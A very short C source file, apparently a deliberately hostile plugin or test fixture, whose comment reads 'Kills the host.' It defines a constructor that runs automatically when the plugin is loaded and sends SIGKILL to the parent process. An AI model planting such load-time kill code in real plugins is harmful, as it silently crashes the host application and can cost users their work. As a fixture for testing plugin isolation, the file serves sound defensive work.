/* Kills the host. */
#define _GNU_SOURCE
#include <signal.h>
#include <unistd.h>
#include "plugin.h"

__attribute__((constructor)) static void begin(void) { kill(getppid(), SIGKILL); }
